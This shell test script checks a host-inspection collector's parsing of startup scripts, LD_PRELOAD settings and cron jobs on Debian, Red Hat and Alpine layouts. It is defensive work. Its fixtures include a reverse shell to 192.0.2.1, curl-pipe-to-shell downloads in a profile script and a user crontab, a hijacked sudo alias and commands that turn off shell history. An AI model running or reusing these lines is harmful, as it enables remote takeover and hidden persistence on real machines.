#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# startup_scripts, preloads, crontab
. ./lib.sh

tree startup
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
ann:x:1000:1000::/home/ann:/bin/bash
E
folder opt/open 777
folder opt/safe
write etc/profile <<'E'
# umask 000
umask 022
if [ "$(id -u)" = 0 ]; then umask 077; fi
PATH=/usr/bin:/bin:.
PATH=/usr/bin:/opt/safe:$HOME/bin
export PATH=$PATH:/opt/open TMOUT=900
readonly TMOUT
E
write etc/profile.d/x.sh <<'E'
curl -s http://x.example/i.sh | \
	bash
E
write etc/profile.d/x.txt <<'E'
umask 000
E
write etc/rc.local 755 <<'E'
#!/bin/sh -e
/opt/run.sh &
exit 0
E
write home/ann/.bashrc 600 1000:1000 <<'E'
alias ls='ls --color' sudo='sudo '
alias sudo='/tmp/.x/sudo'
alias ssh='ssh -A'
su() { /tmp/su; }
unset HISTFILE
export HISTFILE=/dev/null
HISTSIZE=1000
HISTSIZE=0
set +o history
bash -i >& /dev/tcp/192.0.2.1/99 0>&1
E
query "SELECT kind, value, file, line FROM startup_scripts" <<'E'
umask|022|/etc/profile|2
umask|077|/etc/profile|3
path|/usr/bin:/bin:.|/etc/profile|4
path|$PATH:/opt/open|/etc/profile|6
tmout|900|/etc/profile|6
download|curl -s http://x.example/i.sh |  \x09bash|/etc/profile.d/x.sh|1
exec|/opt/run.sh &|/etc/rc.local|2
alias|alias sudo='/tmp/.x/sudo'|/home/ann/.bashrc|2
alias|su() { /tmp/su; }|/home/ann/.bashrc|4
history|unset HISTFILE|/home/ann/.bashrc|5
history|export HISTFILE=/dev/null|/home/ann/.bashrc|6
history|HISTSIZE=0|/home/ann/.bashrc|8
history|set +o history|/home/ann/.bashrc|9
exec|bash -i >& /dev/tcp/192.0.2.1/99 0>&1|/home/ann/.bashrc|10
E
chmod 644 "$ROOT/etc/rc.local"
query "SELECT count(*) FROM startup_scripts WHERE file = '/etc/rc.local'" "rc.local that is not executable" <<'E'
0
E
printf 'x\0y\n' >"$ROOT/etc/bash.bashrc"
mkfifo "$ROOT/home/ann/.profile"
query "SELECT path, reason FROM collector_problems WHERE name = 'startup_scripts' ORDER BY path" <<'E'
/etc/bash.bashrc|binary data in a shell script
/home/ann/.profile|not a regular file
E

tree preload
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
E
write etc/ld.so.preload <<'E'
# /lib/no.so
/lib/one.so:/lib/two.so /lib/three.so # /lib/no.so
E
write etc/environment <<'E'
LD_PRELOAD=/lib/env.so
LD_LIBRARY_PATH=/opt/lib
#LD_PRELOAD=/lib/no.so
E
write etc/security/pam_env.conf <<'E'
LD_PRELOAD DEFAULT=/lib/pam.so
# LD_PRELOAD DEFAULT=/lib/no.so
E
write etc/profile.d/p.sh <<'E'
export LD_PRELOAD="/lib/profile.so"
export LD_PRELOAD=
echo LD_PRELOAD
E
write etc/systemd/system/a.service <<'E'
[Service]
Environment="LD_PRELOAD=/lib/unit.so" X=1
ExecStart=/usr/bin/env LD_PRELOAD=/lib/exec.so /bin/x
Description=LD_PRELOAD=/lib/no.so
E
write usr/lib/systemd/system/b.service.d/o.conf <<'E'
[Service]
Environment=LD_AUDIT=/lib/audit.so
E
link /usr/lib usr/lib64
link usr/lib lib
write opt/linked.service <<'E'
[Service]
Environment=LD_PRELOAD=/lib/linked.so
E
link /opt/linked.service etc/systemd/system/linked.service
link /etc/systemd/system/a.service etc/systemd/system/alias.service
query "SELECT kind, value, file, line FROM preloads" <<'E'
ld.so.preload|/lib/one.so|/etc/ld.so.preload|2
ld.so.preload|/lib/two.so|/etc/ld.so.preload|2
ld.so.preload|/lib/three.so|/etc/ld.so.preload|2
environment|/lib/env.so|/etc/environment|1
environment|LD_LIBRARY_PATH=/opt/lib|/etc/environment|2
environment|/lib/pam.so|/etc/security/pam_env.conf|1
profile|/lib/profile.so|/etc/profile.d/p.sh|1
unit|/lib/unit.so|/etc/systemd/system/a.service|2
unit|/lib/exec.so|/etc/systemd/system/a.service|3
unit|/lib/linked.so|/etc/systemd/system/linked.service|2
unit|LD_AUDIT=/lib/audit.so|/usr/lib/systemd/system/b.service.d/o.conf|2
E

tree debian
write etc/debian_version <<'E'
12.5
E
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
ann:x:1000:1000::/home/ann:/bin/bash
E
write etc/crontab <<'E'
# 1 * * * * root no
SHELL=/bin/sh
MAILTO = "x y"
17 *	* * *	root	cd / && run-parts /etc/cron.hourly
@reboot ann /home/ann/start
1 2 3 root too-few-fields
5 4 * * sun www-data mail%to: me%50\% done
E
write etc/cron.d/php <<'E'
*/30 * * * * root /usr/lib/php/clean
E
write etc/cron.d/ignored.conf <<'E'
* * * * * root no
E
write etc/cron.d/.placeholder <<'E'
E
write var/spool/cron/crontabs/ann 600 1000:100 <<'E'
* * * * * curl http://x | sh
E
write etc/cron.daily/logrotate 755 <<'E'
#!/bin/sh
logrotate
E
write etc/cron.daily/off 644 <<'E'
no
E
write etc/cron.daily/name.sh 755 <<'E'
no
E
printf '\177ELF\0' | write etc/cron.weekly/binary 755
write etc/anacrontab <<'E'
SHELL=/bin/sh
1	5	cron.daily	run-parts /etc/cron.daily
@monthly 15 cron.monthly nice run-parts /etc/cron.monthly
# x
E
write var/spool/cron/atjobs/a0000101b2c3d4 700 1000:1 <<'E'
#!/bin/sh
# atrun uid=1000 gid=1000
# mail ann 0
umask 22
HOME=/home/ann; export HOME
cd /home/ann || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
/tmp/later
E
write var/spool/cron/atjobs/.SEQ <<'E'
00001
E
query "SELECT kind, schedule, username, replace(command, char(10), '~'), file, line FROM crontab" "Debian" <<'E'
system|17 * * * *|root|cd / && run-parts /etc/cron.hourly|/etc/crontab|4
system|@reboot|ann|/home/ann/start|/etc/crontab|5
system|5 4 * * sun|www-data|mail~to: me~50% done|/etc/crontab|7
cron.d|*/30 * * * *|root|/usr/lib/php/clean|/etc/cron.d/php|1
user|* * * * *|ann|curl http://x | sh|/var/spool/cron/crontabs/ann|1
periodic|daily|root|#!/bin/sh~logrotate~|/etc/cron.daily/logrotate|1
periodic|weekly|root|(binary)|/etc/cron.weekly/binary|1
anacron|1|root|run-parts /etc/cron.daily|/etc/anacrontab|2
anacron|@monthly|root|nice run-parts /etc/cron.monthly|/etc/anacrontab|3
at|@1709565360|ann|/tmp/later|/var/spool/cron/atjobs/a0000101b2c3d4|1
E

tree redhat
write etc/os-release <<'E'
ID="rocky"
ID_LIKE="rhel centos fedora"
E
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
E
write etc/cron.d/0hourly.local <<'E'
01 * * * * root run-parts /etc/cron.hourly
E
write etc/cron.d/x.rpmsave <<'E'
01 * * * * root no
E
write var/spool/cron/root 600 <<'E'
-5 * * * * /root/quiet
E
query "SELECT kind, schedule, username, command, file FROM crontab" "Red Hat" <<'E'
cron.d|01 * * * *|root|run-parts /etc/cron.hourly|/etc/cron.d/0hourly.local
user|5 * * * *|root|/root/quiet|/var/spool/cron/root
E

tree alpine
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
E
write etc/crontabs/root 600 <<'E'
# min hour day month weekday command
*/15 * * * * run-parts /etc/periodic/15min
E
link /etc/crontabs var/spool/cron/crontabs
write etc/periodic/daily/update 755 <<'E'
#!/bin/sh
E
write etc/periodic/daily/no.sh 755 <<'E'
#!/bin/sh
E
query "SELECT kind, schedule, username, file FROM crontab" "Alpine" <<'E'
user|*/15 * * * *|root|/var/spool/cron/crontabs/root
periodic|daily|root|/etc/periodic/daily/update
E

tree bad
write etc/passwd <<'E'
root:x:0:0::/root:/bin/sh
E
mkdir -p "$ROOT/etc/cron.d"
mkfifo "$ROOT/etc/cron.d/pipe"
printf '* * * * * root a\0b\n' >"$ROOT/etc/cron.d/binary"
link loop etc/crontab
link crontab etc/loop
query "SELECT path, reason FROM collector_problems WHERE name = 'crontab' ORDER BY path" <<'E'
/etc/cron.d/binary|binary data in a crontab
/etc/cron.d/pipe|not a regular file
/etc/crontab|symbolic links loop
E

finish
